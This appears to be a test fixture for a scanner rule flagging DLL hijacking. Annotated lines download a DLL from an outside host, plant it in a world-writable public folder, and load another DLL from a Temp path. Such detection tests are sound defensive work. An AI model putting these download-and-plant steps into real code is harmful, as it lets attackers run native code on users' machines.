# ruff: noqa
# fmt: off
"""DLL planting and loading native code from writable places."""
import ctypes

import requests

data = requests.get("https://cdn.example-updates.net/version.dll", timeout=5).content
with open("C:\\Users\\Public\\Documents\\version.dll", "wb") as out:  # expect: dll-hijacking
    out.write(data)
lib = ctypes.CDLL("C:\\Users\\Public\\AppData\\Local\\Temp\\helper.dll")  # expect: dll-hijacking
